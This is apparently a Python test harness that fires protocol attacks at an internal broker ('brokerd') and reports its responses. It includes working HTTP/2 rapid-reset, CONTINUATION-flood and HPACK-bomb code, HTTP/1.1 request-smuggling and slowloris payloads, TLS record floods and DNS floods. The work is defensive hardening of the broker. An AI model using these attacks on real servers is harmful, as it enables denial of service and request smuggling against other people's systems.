"""Protocol attacks on brokerd from inside an agent cgroup (issue 17.2), standard library only.

Usage: attacker.py ATTACK HOST PORT CAFILE SNI [KEY=VALUE...]

It connects to HOST:PORT (the kernel redirects the connection to brokerd), speaks TLS trusting
CAFILE with SNI (ALPN h2 for the h2-* attacks, http/1.1 for the h1-* ones), writes the attack
while it reads whatever brokerd answers, and prints one JSON line: what it sent and what came
back (SETTINGS, GOAWAY and its code, RST_STREAM codes, response heads per stream, HTTP/1.1
status lines, whether brokerd closed the connection). Nothing here decides pass or fail: the
test reads the report.

Writing and reading share one thread (non-blocking, select), so a flood never deadlocks
against brokerd's answers.
"""

import json
import random
import re
import select
import socket
import ssl
import struct
import sys
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream & 0x7FFFFFFF) + payload


def hpack_int(value, bits, first=0):
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(raw):
    return hpack_int(len(raw), 7) + raw


def literal(name, value):
    """A literal header field without indexing, new name."""
    return b"\x00" + hpack_str(name) + hpack_str(value)


def literal_indexed(name, value):
    """A literal header field with incremental indexing (it enters the dynamic table)."""
    return b"\x40" + hpack_str(name) + hpack_str(value)


def indexed(index):
    return hpack_int(index, 7, 0x80)


def request_block(method, path, authority, extra=()):
    block = literal(b":method", method) + literal(b":scheme", b"https") + literal(b":path", path)
    block += literal(b":authority", authority)
    for name, value in extra:
        block += literal(name, value)
    return block


def connect(host, port, ca, sni, alpn, rcvbuf=0):
    ctx = ssl.create_default_context(cafile=ca)
    ctx.set_alpn_protocols([alpn])
    raw = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    raw.settimeout(10)
    raw.connect((host, port))
    sock = ctx.wrap_socket(raw, server_hostname=sni)
    got = sock.selected_alpn_protocol()
    if got != alpn:
        raise SystemExit("ALPN %r negotiated, not %r" % (got, alpn))
    sock.setblocking(False)
    return sock


class H2Reader:
    """Parses brokerd's frames as they come; answers SETTINGS with an ACK."""

    def __init__(self):
        self.buf = b""
        self.settings = {}
        self.goaway = None
        self.rst = {}
        self.heads = {}
        self.data_bytes = 0
        self.ping_acks = 0
        self.frames = 0
        self.reply = b""

    def feed(self, data):
        self.buf += data
        while len(self.buf) >= 9:
            length = struct.unpack(">I", b"\0" + self.buf[:3])[0]
            if len(self.buf) < 9 + length:
                return
            kind, flags = self.buf[3], self.buf[4]
            stream = struct.unpack(">I", self.buf[5:9])[0] & 0x7FFFFFFF
            payload = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            self.frames += 1
            if kind == SETTINGS and not flags & ACK:
                for i in range(0, len(payload) - 5, 6):
                    ident, value = struct.unpack(">HI", payload[i : i + 6])
                    self.settings[str(ident)] = value
                self.reply += frame(SETTINGS, ACK, 0)
            elif kind == GOAWAY and len(payload) >= 8:
                last, code = struct.unpack(">II", payload[:8])
                self.goaway = {"code": code, "last_stream": last & 0x7FFFFFFF, "debug": payload[8:].decode("latin-1")}
            elif kind == RST_STREAM and len(payload) >= 4:
                code = str(struct.unpack(">I", payload[:4])[0])
                self.rst[code] = self.rst.get(code, 0) + 1
            elif kind == HEADERS:
                self.heads[stream] = status_of(payload, flags)
            elif kind == DATA:
                self.data_bytes += length
            elif kind == PING and flags & ACK:
                self.ping_acks += 1

    def report(self):
        statuses = {}
        for status in self.heads.values():
            statuses[status] = statuses.get(status, 0) + 1
        return {
            "settings": self.settings,
            "goaway": self.goaway,
            "rst": self.rst,
            "responses": len(self.heads),
            "statuses": statuses,
            "data_bytes": self.data_bytes,
            "ping_acks": self.ping_acks,
            "frames": self.frames,
        }


# The static table's :status entries (RFC 7541, appendix A).
STATIC_STATUS = {8: "200", 9: "204", 10: "206", 11: "304", 12: "400", 13: "404", 14: "500"}


def status_of(payload, flags):
    """The :status of a response head when it is a static entry or a plain literal; "other"
    when it is Huffman-coded (this reader has no Huffman table)."""
    if flags & 0x8:  # PADDED
        payload = payload[1 : len(payload) - payload[0]]
    if flags & 0x20:  # PRIORITY
        payload = payload[5:]
    if not payload:
        return "none"
    first = payload[0]
    if first & 0x80:
        return STATIC_STATUS.get(first & 0x7F, "other")
    if first & 0xC0 == 0x40 and first & 0x3F == 8 and len(payload) >= 2 and not payload[1] & 0x80:
        return payload[2 : 2 + (payload[1] & 0x7F)].decode("latin-1")
    return "other"


class H1Reader:
    def __init__(self):
        self.raw = b""
        self.reply = b""

    def feed(self, data):
        if len(self.raw) < 1 << 20:
            self.raw += data[: (1 << 20) - len(self.raw)]

    def report(self):
        text = self.raw.decode("latin-1")
        return {
            "statuses": re.findall(r"HTTP/1\.1 (\d{3})", text),
            "received": len(self.raw),
            "head": text.split("\r\n\r\n", 1)[0][:400],
            "bodies": [b[:300] for b in text.split("\r\n\r\n")[1:]],
        }


def pump(sock, reader, steps, linger, noread=0.0, expect=0):
    """Writes `steps` (bytes to send, each a whole number of frames, or a float: seconds to
    wait before the next) while reading into `reader`, then reads for `linger` more seconds or
    until brokerd closes. Replies the reader queues (a SETTINGS ACK) go between two steps,
    never inside one. `expect`: stop lingering once that many responses came (HTTP/2).
    `noread`: seconds from the start during which nothing is read (a slow
    reader)."""
    start = time.monotonic()
    queue = []
    queued = 0
    cur = b""
    sent = 0
    closed = False
    write_error = None
    wait_until = 0.0
    steps = iter(steps)
    exhausted = False
    deadline = None
    while True:
        now = time.monotonic()
        while not exhausted and queued < 1 << 16 and now >= wait_until:
            try:
                step = next(steps)
            except StopIteration:
                exhausted = True
                deadline = now + linger
                break
            if isinstance(step, float):
                wait_until = now + step
                break
            queue.append(step)
            queued += len(step)
        if reader.reply:
            queue.insert(0, reader.reply)
            queued += len(reader.reply)
            reader.reply = b""
        if not cur and queue:
            cur = queue.pop(0)
            queued -= len(cur)
        if closed or (exhausted and not cur and now >= deadline):
            break
        if exhausted and not cur and expect and len(getattr(reader, "heads", ())) >= expect:
            break
        reading = now - start >= noread
        writing = bool(cur) and write_error is None
        r, w, _ = select.select([sock] if reading else [], [sock] if writing else [], [], 0.02)
        if r or (reading and sock.pending()):
            try:
                while True:
                    data = sock.recv(65536)
                    if not data:
                        closed = True
                        break
                    reader.feed(data)
                    if not sock.pending():
                        break
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
            except (OSError, ssl.SSLError) as e:
                closed = True
                write_error = write_error or str(e)
        if w and cur:
            try:
                n = sock.send(cur[:16384])
                cur = cur[n:]
                sent += n
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                pass
            except (OSError, ssl.SSLError) as e:
                write_error = str(e)
        if write_error is not None:
            cur, queue, queued = b"", [], 0
            if not exhausted:
                exhausted = True
                deadline = time.monotonic() + min(linger, 2.0)
    report = reader.report()
    report.update(
        {
            "sent_bytes": sent,
            "all_sent": exhausted and write_error is None and not cur and not queue,
            "closed": closed,
            "write_error": write_error,
            "elapsed": round(time.monotonic() - start, 3),
        }
    )
    return report


def h2_open(authority):
    yield PREFACE
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 20))  # a large window of our own


def h2_rapid_reset(authority, n):
    yield from h2_open(authority)
    block = request_block(b"GET", b"/attack/slow?ms=2000", authority)
    batch = b""
    for i in range(n):
        stream = 1 + 2 * i
        batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        if len(batch) > 1 << 14:
            yield batch
            batch = b""
    yield batch


def h2_made_you_reset(authority, n):
    # Each stream is one brokerd must reset itself: a WINDOW_UPDATE that takes an open
    # stream's window past 2^31-1 is a stream error (FLOW_CONTROL_ERROR).
    yield from h2_open(authority)
    block = request_block(b"POST", b"/bulk/up", authority)
    batch = b""
    for i in range(n):
        stream = 1 + 2 * i
        batch += frame(HEADERS, END_HEADERS, stream, block) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF))
        if len(batch) > 1 << 14:
            yield batch
            batch = b""
    yield batch


def h2_continuation_flood(authority, total):
    yield from h2_open(authority)
    block = request_block(b"GET", b"/hash", authority)
    yield frame(HEADERS, 0, 1, block)
    filler = b"".join(literal(b"x-flood-%d" % i, b"v" * 100) for i in range(100))
    chunk = frame(CONTINUATION, 0, 1, filler[:16000])
    sent = 0
    while sent < total:
        yield chunk
        sent += len(chunk)


def h2_hpack_bomb(authority, refs):
    yield from h2_open(authority)
    # One 4000-byte value enters the dynamic table (entry 62), then a block refers to it
    # `refs` times: a few bytes on the wire, megabytes once decoded.
    block = request_block(b"GET", b"/hash", authority)
    block += literal_indexed(b"x-bomb", b"b" * 4000)
    block += indexed(62) * refs
    chunks = [block[i : i + 16000] for i in range(0, len(block), 16000)]
    for i, chunk in enumerate(chunks):
        kind = HEADERS if i == 0 else CONTINUATION
        flags = (END_STREAM if i == 0 else 0) | (END_HEADERS if i == len(chunks) - 1 else 0)
        yield frame(kind, flags, 1, chunk)


def h2_streams(authority, n, ms):
    yield from h2_open(authority)
    block = request_block(b"GET", b"/attack/slow?ms=%d" % ms, authority)
    batch = b""
    for i in range(n):
        batch += frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, block)
        if len(batch) > 1 << 14:
            yield batch
            batch = b""
    yield batch


def h2_empty_data(authority, n):
    yield from h2_open(authority)
    yield frame(HEADERS, END_HEADERS, 1, request_block(b"POST", b"/bulk/up", authority))
    empty = frame(DATA, 0, 1) * 1000
    for _ in range(n // 1000):
        yield empty
    yield frame(DATA, END_STREAM, 1, b"end")


def h2_window_update(authority, n):
    yield from h2_open(authority)
    one = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000
    for _ in range(n // 1000):
        yield one
    yield frame(PING, 0, 0, b"abtest!!")
    yield 1.0
    # Then past 2^31-1: a flow-control error brokerd must end the connection for.
    yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF))


def h1_request(method, path, host, headers=(), body=b"", eol=b"\r\n"):
    head = method + b" " + path + b" HTTP/1.1" + eol + b"Host: " + host + eol
    for line in headers:
        head += line + eol
    return head + eol + body


H1_ATTACKS = {
    # Content-Length and Transfer-Encoding both: the body is read as chunked, and what
    # follows its last chunk would be a second request.
    "h1-cl-te": lambda host, a: [
        h1_request(b"POST", b"/v1/attacker", host, [b"Content-Length: 6", b"Transfer-Encoding: chunked"], b"0\r\n\r\n")
        + h1_request(b"GET", b"/v1/smuggled", host)
    ],
    "h1-te-cl": lambda host, a: [
        h1_request(b"POST", b"/v1/attacker", host, [b"Transfer-Encoding: chunked", b"Content-Length: 3"], b"5\r\nhello\r\n0\r\n\r\n")
    ],
    "h1-te-not-chunked": lambda host, a: [
        h1_request(b"POST", b"/v1/attacker", host, [b"Transfer-Encoding: gzip", b"Content-Length: 5"], b"hello")
    ],
    "h1-duplicate-cl": lambda host, a: [
        h1_request(b"POST", b"/v1/attacker", host, [b"Content-Length: 5", b"Content-Length: 12"], b"hello")
    ],
    "h1-obs-fold": lambda host, a: [h1_request(b"GET", b"/v1/attacker", host, [b"X-Folded: a", b" b"])],
    "h1-bare-lf": lambda host, a: [h1_request(b"GET", b"/v1/attacker", host, [b"X-A: 1"], eol=b"\n")],
    "h1-bare-cr": lambda host, a: [h1_request(b"GET", b"/v1/attacker", host, [b"X-A: 1\rX-B: 2"])],
    "h1-huge-header": lambda host, a: [
        h1_request(b"GET", b"/v1/attacker", host, [b"X-Big: " + b"a" * int(a.get("bytes", "70000"))])
    ],
    "h1-many-headers": lambda host, a: [
        h1_request(b"GET", b"/v1/attacker", host, [b"X-H%d: v" % i for i in range(int(a.get("count", "101")))])
    ],
    # A request head sent a byte at a time, `gap` seconds apart: never complete in time.
    "h1-slowloris": lambda host, a: [
        x
        for b in h1_request(b"GET", b"/v1/attacker", host, [b"X-Slow: " + b"s" * 200])
        for x in (bytes([b]), float(a.get("gap", "0.25")))
    ],
    # A body that stops after 3 of its 100 bytes.
    "h1-slow-body": lambda host, a: [h1_request(b"POST", b"/bulk/up", host, [b"Content-Length: 100"], b"abc")],
    # A download the agent does not read (its receive buffer small): brokerd must not buffer it.
    "h1-slow-read": lambda host, a: [h1_request(b"GET", b"/bulk/down?bytes=" + a.get("bytes", "209715200").encode(), host)],
    "h1-expect-continue": lambda host, a: [
        h1_request(b"POST", b"/bulk/up", host, [b"Expect: 100-continue", b"Content-Length: 10"]),
        0.5,
        b"0123456789",
    ],
    "h1-expect-unknown": lambda host, a: [
        h1_request(b"POST", b"/bulk/up", host, [b"Expect: 200-ok", b"Content-Length: 10"], b"0123456789")
    ],
    # One GET of `path` (an upstream attack: a bomb, a lying length).
    "h1-get": lambda host, a: [h1_request(b"GET", a["path"].encode(), host, [b"Connection: close"])],
    # A lying Content-Length: 10 bytes promised, 4 sent, then the agent closes its side.
    "h1-short-body": lambda host, a: [h1_request(b"POST", b"/bulk/up", host, [b"Content-Length: 10"], b"abcd")],
}

H2_ATTACKS = {
    "h2-rapid-reset": lambda auth, a: h2_rapid_reset(auth, int(a.get("n", "2000"))),
    "h2-made-you-reset": lambda auth, a: h2_made_you_reset(auth, int(a.get("n", "500"))),
    "h2-continuation-flood": lambda auth, a: h2_continuation_flood(auth, int(a.get("bytes", "20000000"))),
    "h2-hpack-bomb": lambda auth, a: h2_hpack_bomb(auth, int(a.get("refs", "16000"))),
    "h2-streams": lambda auth, a: h2_streams(auth, int(a.get("n", "300")), int(a.get("ms", "1500"))),
    "h2-empty-data": lambda auth, a: h2_empty_data(auth, int(a.get("n", "200000"))),
    "h2-window-update": lambda auth, a: h2_window_update(auth, int(a.get("n", "200000"))),
}


def client_hello(ca, sni, alpn="http/1.1"):
    """A real ClientHello (python's ssl, in memory) and the object to go on with."""
    ctx = ssl.create_default_context(cafile=ca)
    ctx.set_alpn_protocols([alpn])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(incoming, outgoing, server_hostname=sni)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return tls, incoming, outgoing, outgoing.read()


def tls_attack(attack, host, port, ca, sni, args):
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    raw.settimeout(5)
    raw.connect((host, port))
    report = {"attack": attack, "handshake": False, "closed": False, "statuses": [], "sent_bytes": 0}
    start = time.monotonic()
    if attack == "tls-bad-sni":
        # The same ClientHello, its host name's bytes replaced by ones no name may hold.
        placeholder = "abtest-sni-placeholder.example.test"
        _, _, _, hello = client_hello(ca, placeholder)
        bad = (b"bad\xff\x00name" + b"x" * 64)[: len(placeholder)]
        hello = hello.replace(placeholder.encode(), bad)
        raw.sendall(hello)
        report["sent_bytes"] = len(hello)
    else:
        tls, incoming, outgoing, hello = client_hello(ca, sni)
        if attack == "tls-split-hello":
            # Every byte of the handshake message in a record of its own.
            body = hello[5:]
            for b in body:
                raw.sendall(b"\x16\x03\x01\x00\x01" + bytes([b]))
            report["sent_bytes"] = len(body) * 6
            report["records"] = len(body)
        elif attack == "tls-record-flood":
            # The ClientHello, then change_cipher_spec records by the thousand before the
            # handshake is over.
            flood = b"\x14\x03\x03\x00\x01\x01" * int(args.get("records", "20000"))
            try:
                raw.sendall(hello + flood)
                report["sent_bytes"] = len(hello) + len(flood)
                report["all_sent"] = True
            except OSError as e:
                report["all_sent"] = False
                report["write_error"] = str(e)
        if attack == "tls-split-hello":
            # Go on with the handshake, then one request.
            done = False
            while not done:
                try:
                    tls.do_handshake()
                    done = True
                except ssl.SSLWantReadError:
                    pending = outgoing.read()
                    if pending:
                        raw.sendall(pending)
                    data = raw.recv(65536)
                    if not data:
                        report["closed"] = True
                        break
                    incoming.write(data)
            pending = outgoing.read()
            if pending:
                raw.sendall(pending)
            if done:
                report["handshake"] = True
                tls.write(b"GET /hash HTTP/1.1\r\nHost: " + sni.encode() + b"\r\nConnection: close\r\n\r\n")
                raw.sendall(outgoing.read())
                answer = b""
                while True:
                    try:
                        chunk = tls.read(65536)
                        if not chunk:
                            break
                        answer += chunk
                    except ssl.SSLWantReadError:
                        data = raw.recv(65536)
                        if not data:
                            break
                        incoming.write(data)
                    except ssl.SSLError:
                        break
                report["statuses"] = re.findall(r"HTTP/1\.1 (\d{3})", answer.decode("latin-1"))
    if not report["handshake"]:
        received = b""
        try:
            while len(received) < 1 << 20:
                data = raw.recv(65536)
                if not data:
                    break
                received += data
        except OSError as e:
            report["read_error"] = str(e)
        report["closed"] = True
        report["received"] = len(received)
        # A plaintext alert record from brokerd, if it sent one before closing.
        report["alert"] = received[:1] == b"\x15"
    report["elapsed"] = round(time.monotonic() - start, 3)
    raw.close()
    return report


def dns_query(qid, name):
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00" + struct.pack(">HH", 1, 1)


def dns_attack(attack, args):
    """`dns-flood`: `n` queries for random names under `suffix` as fast as they go;
    `dns-fill`: `n` distinct names under `suffix`, `batch` at a time, so each is answered.
    Reports the response codes seen and how many sends the kernel's DNS pace refused."""
    n, suffix = int(args.get("n", "3000")), args["suffix"]
    batch = int(args.get("batch", "0"))
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    codes = {}
    start = time.monotonic()

    def drain(wait):
        end = time.monotonic() + wait
        while True:
            r, _, _ = select.select([sock], [], [], max(0.0, end - time.monotonic()))
            if not r:
                return
            try:
                reply = sock.recv(4096)
            except BlockingIOError:
                continue
            code = str(reply[3] & 0x0F)
            codes[code] = codes.get(code, 0) + 1

    paced = 0
    for i in range(n):
        name = ("n%d" % i) if attack == "dns-fill" else ("%x" % random.getrandbits(48))
        query = dns_query(i & 0xFFFF, name + "." + suffix)
        while True:
            try:
                sock.sendto(query, ("127.0.0.53", 53))
                break
            except PermissionError:
                # The kernel's DNS pace (2048 datagrams a second per cgroup) refused the send.
                # A flood counts it and goes on; a fill waits, since each name must be asked.
                paced += 1
                if attack == "dns-fill":
                    drain(0.01)
                    continue
                break
        if batch and i % batch == batch - 1:
            drain(0.05)
        elif i % 50 == 0:
            drain(0.0)
    drain(float(args.get("linger", "2")))
    return {"attack": attack, "sent": n, "paced": paced, "codes": codes, "elapsed": round(time.monotonic() - start, 3)}


def main():
    attack, host, port, ca, sni = sys.argv[1:6]
    args = dict(kv.split("=", 1) for kv in sys.argv[6:])
    linger = float(args.get("linger", "3"))
    authority = sni.encode()
    if attack.startswith("dns-"):
        print(json.dumps(dns_attack(attack, args)), flush=True)
        return
    if attack.startswith("tls-"):
        print(json.dumps(tls_attack(attack, host, int(port), ca, sni, args)), flush=True)
        return
    if attack in H2_ATTACKS:
        sock = connect(host, int(port), ca, sni, "h2")
        expect = int(args.get("expect", "0"))
        report = pump(sock, H2Reader(), H2_ATTACKS[attack](authority, args), linger, expect=expect)
    elif attack in H1_ATTACKS:
        sock = connect(host, int(port), ca, sni, "http/1.1", rcvbuf=int(args.get("rcvbuf", "0")))
        steps = H1_ATTACKS[attack](authority, args)
        if attack == "h1-short-body":
            report = pump(sock, H1Reader(), steps, 0.2)
            sock.setblocking(True)
            sock.shutdown(socket.SHUT_WR)
            sock.setblocking(False)
            later = pump(sock, H1Reader(), [], linger)
            report["after_close"] = later
        else:
            report = pump(sock, H1Reader(), steps, linger, noread=float(args.get("noread", "0")))
    else:
        raise SystemExit("unknown attack " + attack)
    report["attack"] = attack
    try:
        sock.close()
    except OSError:
        pass
    print(json.dumps(report), flush=True)


if __name__ == "__main__":
    main()
